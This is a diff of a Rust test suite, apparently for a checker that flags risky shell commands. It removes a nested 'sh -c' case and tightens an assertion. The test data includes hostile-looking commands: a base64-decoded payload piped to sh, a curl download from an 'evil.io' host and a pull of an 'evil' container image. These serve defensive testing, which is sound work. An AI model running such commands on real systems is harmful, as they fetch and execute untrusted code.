@@ -180,18 +180,13 @@ fn what_cannot_be_told_is_warned_of() {
         "echo aGVsbG8= | base64 -d | sh",
         "cilium install",
         "curl -LO https://evil.io/tool",
-        "sh -c \"sh -c \\\"sh -c 'sh -c \\\\\\\"sh -c true\\\\\\\"'\\\"\"",
     ] {
         let found = of(command);
         assert!(
             found.iter().all(|(code, _)| code == "BSP-M005"),
             "{command}: {found:?}"
         );
-        assert_eq!(
-            found.is_empty(),
-            command.contains("sh -c true"),
-            "{command}: {found:?}"
-        );
+        assert_eq!(found.len(), 1, "{command}: {found:?}");
     }
     refused(
         "ctr i pull docker.io/evil/app:$TAG",
